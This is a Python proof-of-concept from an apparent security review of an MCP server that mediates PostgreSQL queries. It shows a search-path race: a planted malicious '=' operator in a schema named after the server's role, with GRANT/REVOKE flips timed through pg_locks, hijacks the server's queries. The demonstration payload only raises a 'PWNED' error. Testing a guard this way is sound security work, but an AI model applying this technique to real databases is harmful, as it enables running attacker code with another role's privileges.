"""attack5 F5 (outside the claim's precondition, same default settings): no open schema on
the server's path at the check, so the statement runs on the session's own path, whose
setting still says `"$user", public` (PostgreSQL's default). A role that is not trusted and
may CREATE in the database (GRANT CREATE ON DATABASE, `public` closed as on PostgreSQL 15+)
makes a schema named like the server's role, `reader`, with an exact-match
`reader.=(varchar, varchar)`, but without granting the server's role USAGE on it: PostgreSQL
leaves it out of the effective path (current_schemas), so the guard sees no open schema and
sets no path. It then flips `GRANT/REVOKE USAGE ON SCHEMA reader TO reader` in a loop: a GRANT
committed between the guard's check and PostgreSQL's parse puts `reader` first on the path
(`$user`), and the planted operator runs as the server's role.

Usage: PYTHONPATH=tests:security-review:security-review/attack5 uv run python \
    security-review/attack5/user_schema_race.py [CALLS] (TOOL=execute_query|sample)
Prints the outcomes; exits 1 if any call ran the plant."""
from __future__ import annotations

import asyncio
import json
import os
import sys
import time

import asyncpg
from common5 import ADMIN, tool
from mcpclient import connect
from pgbed import with_database

DB = with_database(ADMIN, "atk5u")
ATTACKER = DB.replace("postgres@", "attacker@", 1)
READER = DB.replace("postgres@", "reader@", 1)
SETUP = """
REVOKE CREATE ON SCHEMA public FROM PUBLIC;   -- closed: PostgreSQL 15's default
GRANT CREATE ON DATABASE atk5u TO attacker;   -- the attacker may make schemas
CREATE SCHEMA app;
GRANT USAGE ON SCHEMA app TO reader;
CREATE TABLE app.people (id int PRIMARY KEY, name varchar(20));
INSERT INTO app.people VALUES (1, 'Alice'), (2, 'Bob');
GRANT SELECT ON app.people TO reader;
"""
ATTACK = r"""
CREATE SCHEMA atk;
GRANT USAGE ON SCHEMA atk TO PUBLIC;
CREATE FUNCTION atk.evil(varchar, varchar) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $f$
DECLARE x text := pg_catalog.pg_current_xact_id()::text;
BEGIN
  RAISE EXCEPTION 'PWNED as % (read_only=%, xid %)', current_user,
    pg_catalog.current_setting('transaction_read_only'), x;
END $f$;
CREATE SCHEMA reader;   -- "$user" for the server's role; no USAGE for it yet
CREATE OPERATOR reader.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = atk.evil);
"""
TOOL = os.environ.get("TOOL", "execute_query")
CALLS = {
    "execute_query": ("execute_query", {"sql": "SELECT id FROM app.people WHERE name = 'Alice'::varchar"}),
    # pg_am first in FROM: a catalog no statement of the guard reads, so its lock is new to
    # the transaction and PostgreSQL takes in the catalog changes committed since (the GRANT)
    # before it resolves the WHERE clause's `=`
    "fresh_lock": ("execute_query", {"sql": "SELECT p.id FROM pg_catalog.pg_am a CROSS JOIN "
                   "app.people p WHERE p.name = 'Alice'::varchar AND a.amname = 'btree'"}),
    "sample": ("get_sample_rows", {"schema_name": "app", "table_name": "people",
                                   "where_clause": "name = 'Alice'::varchar"}),
}


PEOPLE = [0]  # app.people's oid (the attacker cannot name it: no USAGE on app)
MODE = os.environ.get("MODE", "lock")  # lock: timed on the server's lock; loop: blind flips
DELAY = float(os.environ.get("DELAY", "0"))  # seconds after the lock is seen


async def flipper(stop: asyncio.Event, flips: list[int]) -> None:
    """`loop`: GRANT/REVOKE as fast as possible. `lock`: the timing oracle any role has:
    pg_locks shows the server's ACCESS SHARE on app.people, taken before its check; the
    GRANT, prepared in an open transaction, commits the moment it appears (+ DELAY)."""
    c = await asyncpg.connect(ATTACKER)
    watch = await asyncpg.connect(ATTACKER)
    try:
        while not stop.is_set():
            if MODE == "loop":
                await c.execute("GRANT USAGE ON SCHEMA reader TO reader")
                await c.execute("REVOKE USAGE ON SCHEMA reader FROM reader")
                flips[0] += 1
                continue
            await c.execute("BEGIN; GRANT USAGE ON SCHEMA reader TO reader")
            while not stop.is_set() and not await watch.fetchval(
                "SELECT EXISTS (SELECT FROM pg_catalog.pg_locks l JOIN pg_catalog.pg_stat_activity a"
                " USING (pid) WHERE a.usename = 'reader' AND l.relation = $1)", PEOPLE[0]
            ):
                pass
            if DELAY:
                await asyncio.sleep(DELAY)
            await c.execute("COMMIT")
            flips[0] += 1
            while not stop.is_set() and await watch.fetchval(  # until that call is over
                "SELECT EXISTS (SELECT FROM pg_catalog.pg_locks l JOIN pg_catalog.pg_stat_activity a"
                " USING (pid) WHERE a.usename = 'reader' AND l.relation = $1)", PEOPLE[0]
            ):
                pass
            await c.execute("REVOKE USAGE ON SCHEMA reader FROM reader")
    finally:
        await c.execute("ROLLBACK; REVOKE USAGE ON SCHEMA reader FROM reader")
        await c.close()
        await watch.close()


async def main(calls: int) -> int:
    a = await asyncpg.connect(ADMIN)
    await a.execute("DROP DATABASE IF EXISTS atk5u WITH (FORCE)")
    await a.execute("CREATE DATABASE atk5u TEMPLATE template0")
    await a.close()
    a = await asyncpg.connect(DB)
    await a.execute(SETUP)
    PEOPLE[0] = await a.fetchval("SELECT 'app.people'::regclass::oid")
    await a.close()
    a = await asyncpg.connect(ATTACKER)
    await a.execute(ATTACK)
    await a.close()
    name, args = CALLS[TOOL]
    outcomes: dict[str, int] = {}
    async with connect(READER) as c:
        ok, body = await tool(c, name, **args)
        print("baseline:", ok, json.dumps(body)[:160])
        stop, flips = asyncio.Event(), [0]
        task = asyncio.create_task(flipper(stop, flips))
        t0 = time.monotonic()
        try:
            for i in range(calls):
                ok, body = await tool(c, name, **args)
                if ok:
                    k = "served"
                else:
                    msg = body["error"]["message"]
                    k = "PWNED" if "PWNED" in msg else (
                        body["error"]["code"] + ":" + str(body["error"].get("context", {}).get("rule", "")))
                    if k == "PWNED" and outcomes.get(k, 0) < 2:
                        print(f"call {i}: {msg}")
                outcomes[k] = outcomes.get(k, 0) + 1
        finally:
            stop.set()
            await task
        print(f"{TOOL}: {calls} calls in {time.monotonic() - t0:.1f}s, {flips[0]} flips: {outcomes}")
    return 1 if outcomes.get("PWNED") else 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main(int(sys.argv[1]) if len(sys.argv) > 1 else 200)))
